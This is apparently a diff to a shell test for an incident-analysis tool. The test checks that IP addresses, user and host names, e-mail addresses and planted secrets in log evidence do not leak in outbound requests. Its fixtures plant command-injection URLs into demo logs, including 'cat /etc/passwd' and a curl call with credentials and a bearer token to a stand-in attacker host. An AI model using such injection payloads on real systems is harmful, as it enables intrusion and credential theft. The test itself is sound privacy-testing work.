@@ -3,7 +3,8 @@
 # records every request; under the default policy (pseudonymise) no IP
 # address, user name, host name, e-mail address or secret from the
 # incident's evidence may appear in any of them, and the answer must come
-# back with the real values.  Secrets are planted in the demo logs.
+# back with the real values.  Secrets, and names and addresses in unusual
+# places, are planted in the demo logs.
 . "$(dirname "$0")/lib.sh"
 command -v python3 >/dev/null || skip "python3 is not installed"
 [ -x "${VIGIL_DEMO_GEN:-}" ] || skip "vigil-demo-gen not built"
@@ -51,47 +52,87 @@ requests() { wc -l <"$T/req.log"; }
 sed -i -e 's#/uploads/img.php?cmd=cat%20/etc/passwd#&\&token=tok5ecret9f8e7d\&mail=victim@corp.example.com#' \
 	-e 's#/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd#/api/v1/ping?host=127.0.0.1%3Bcurl%20http://admin:hunter2pass@files.attacker.example.net/x%20-H%20Authorization:%20Bearer%20eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl#' \
 	"$T/demo/access.log"
-sed -i 's#COMMAND=/usr/bin/su -#COMMAND=/usr/bin/mysql --password=Sup3rS3cretPw -u root#' \
+# A user name in a URL path and a file name, an IPv4-mapped IPv6 address
+# in a query, an e-mail address inside a user agent.
+sed -i -e 's#/uploads/img.php?cmd=cat%20/etc/passwd#&\&from=/~deploy/backup_deploy.tgz\&peer=::ffff:198.51.100.23#' \
+	-e '/img.php?cmd=cat/ s#"python-requests/2.31.0"$#"python-requests/2.31.0 (contact Ops.Contact@Example.org)"#' \
+	"$T/demo/access.log"
+# A user and a host name (other case) in a command line.
+sed -i "s#COMMAND=/usr/bin/su -#& deploy -c '/usr/bin/mysql --password=Sup3rS3cretPw -h WEB01 --init-command=/home/deploy/init.sql'#" \
 	"$T/demo/auth.log"
+# A host name inside a JSON value, an IPv6 address in a JSON field.
+sed -i '/"event_type":"alert"/ s#"in_iface":"eth1",#"in_iface":"eth1","sensor":"Bastion-eth1","xff":"2001:db8:85a3::8a2e:370:7334",#' \
+	"$T/demo/eve.json"
 "$VIGIL" analyze -q --store "$T/db" "$T"/demo/*.log "$T"/demo/*.json \
 	>/dev/null 2>&1 || fail "analyze --store"
 "$VIGIL" show 1 --store "$T/db" --format json >"$T/inc.json" 2>/dev/null
 
 # Every value the evidence holds that must not leave: addresses, names,
-# e-mail addresses and the planted secrets.
+# e-mail addresses and the planted secrets, one a line after "cs" (to be
+# matched with case) or "ci" (host names and e-mail addresses: any case).
 python3 - "$T/inc.json" >"$T/private.txt" <<'PY'
-import json, re, sys
+import ipaddress, json, re, sys
 d = json.load(open(sys.argv[1]))
-vals = set()
+vals = {}
 for e in d["entities"]:
-    if e["type"] in ("source.ip", "user.name", "user.target.name",
-                     "host.name"):
-        vals.add(e["value"])
+    if e["type"] in ("source.ip", "user.name", "user.target.name"):
+        vals[e["value"]] = "cs"
+    if e["type"] in ("host.name", "source.address"):
+        vals[e["value"]] = "ci"
 for ev in d["evidence"]:
     t = ev["text"]
-    vals.update(re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", t))
-    vals.update(re.findall(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", t))
+    for v in re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", t):
+        vals[v] = "cs"
+    for v in re.findall(r"[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*", t):
+        try:
+            if ipaddress.ip_address(v).version == 6:
+                vals[v] = "ci"
+        except ValueError:
+            pass
+    for v in re.findall(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", t):
+        vals[v] = "ci"
     m = re.match(r"\w{3} [ \d]\d \d\d:\d\d:\d\d (\S+) ", t)
     if m:
-        vals.add(m.group(1))
-vals.update(["tok5ecret9f8e7d", "hunter2pass", "Sup3rS3cretPw",
-             "eyJhbGciOiJIUzI1NiJ9", "victim@corp.example.com",
-             "files.attacker.example.net"])
+        vals[m.group(1)] = "ci"
+for v in ["tok5ecret9f8e7d", "hunter2pass", "Sup3rS3cretPw",
+          "eyJhbGciOiJIUzI1NiJ9"]:
+    vals[v] = "cs"
+for v in ["victim@corp.example.com", "files.attacker.example.net",
+          "Ops.Contact@Example.org", "2001:db8:85a3::8a2e:370:7334"]:
+    vals[v] = "ci"
 for v in sorted(vals):
-    print(v)
+    print(vals[v], v)
 PY
-check "the evidence holds private values" test "$(wc -l <"$T/private.txt")" -ge 10
+check "the evidence holds private values" test "$(wc -l <"$T/private.txt")" -ge 14
 check "the planted secret is in the evidence" grep -q tok5ecret "$T/inc.json"
+planted() {	# planted TEXT: TEXT stands in an evidence line
+	python3 -c '
+import json, sys
+d = json.load(open(sys.argv[1]))
+sys.exit(0 if any(sys.argv[2] in e["text"] for e in d["evidence"]) else 1)
+' "$T/inc.json" "$1"
+}
+for p in "/~deploy/backup_deploy.tgz" "::ffff:198.51.100.23" \
+	"(contact Ops.Contact@Example.org)" "su - deploy -c" "-h WEB01" \
+	"/home/deploy/init.sql" '"sensor":"Bastion-eth1"' \
+	'"xff":"2001:db8:85a3::8a2e:370:7334"'; do
+	check "planted in the evidence: $p" planted "$p"
+done
 
 leaks() {	# leaks: values of private.txt found in any request
 	python3 - "$T/req.log" "$T/private.txt" <<'PY'
 import json, re, sys
 reqs = [json.dumps(json.loads(l)["body"]) for l in open(sys.argv[1])]
 bad = 0
-for v in open(sys.argv[2]).read().split("\n"):
-    if not v:
+for line in open(sys.argv[2]).read().split("\n"):
+    if not line:
         continue
-    pat = re.compile(r"(?<![\w.-])" + re.escape(v) + r"(?![\w-]|\.\d)")
+    how, v = line.split(" ", 1)
+    # a value stands alone or between non-alphanumeric bytes, as in
+    # "/~deploy/", "backup_deploy.tgz", "-h WEB01" or "Bastion-eth1"
+    pat = re.compile(r"(?<![A-Za-z0-9])" + re.escape(v) +
+                     r"(?![A-Za-z0-9]|\.\d)",
+                     re.I if how == "ci" else 0)
     for r in reqs:
         if pat.search(r):
             print("leaked:", v)
